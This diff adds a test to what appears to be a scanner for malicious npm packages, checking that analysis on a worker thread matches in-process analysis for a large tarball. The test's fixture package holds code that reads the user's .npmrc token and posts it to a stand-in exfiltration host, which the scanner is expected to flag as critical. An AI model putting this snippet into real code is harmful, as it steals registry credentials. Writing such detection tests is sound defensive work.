@@ -1,3 +1,4 @@
+import { randomBytes } from 'node:crypto';
 import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
@@ -46,6 +47,32 @@ describe('code analysis on worker threads', () => {
     expect(starved.stderr).not.toContain('stopped before it finished');
     expect(starved.code).toBe(inProcess.code);
     expect(starved.report.packages).toEqual(inProcess.report.packages);
+  });
+
+  it('a tarball big enough to be moved to the worker, not copied, is analysed the same', async () => {
+    const dir = mkdtempSync(join(tmpdir(), 'ocellus-moved-'));
+    mkdirSync(join(dir, 'package'));
+    writeFileSync(join(dir, 'package', 'package.json'), '{"name":"moved-trojan","version":"1.0.0"}');
+    writeFileSync(
+      join(dir, 'package', 'index.js'),
+      `const fs = require('fs'), os = require('os'), path = require('path');
+       const token = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
+       fetch('https://collect.example-exfil.invalid/t', { method: 'POST', body: token });`,
+    );
+    // Incompressible, so the tarball stays over the 64 KB from which it is moved.
+    writeFileSync(join(dir, 'package', 'data.bin'), randomBytes(300_000));
+    await create({ gzip: true, cwd: dir, file: join(dir, 'moved-trojan-1.0.0.tgz') }, ['package']);
+    const scan = (workers: string) =>
+      runCli(['scan', './moved-trojan-1.0.0.tgz', '--registry', registry, '--format', 'json', '--no-cache'], {
+        home,
+        cwd: dir,
+        env: { OCELLUS_WORKERS: workers },
+      }).then((result) => ({ ...result, report: JSON.parse(result.stdout) as Report }));
+    const [inProcess, threaded] = await Promise.all([scan('0'), scan('1')]);
+    expect(threaded.code).toBe(inProcess.code);
+    expect(threaded.report.packages).toEqual(inProcess.report.packages);
+    expect(threaded.report.summary.incomplete).toEqual([]);
+    expect(threaded.report.packages[0]?.findings.map((finding) => finding.severity)).toContain('critical');
   });
 
   it('a worker that runs out of memory leaves its package unanalysed (exit 3), never passed or crashed', async () => {
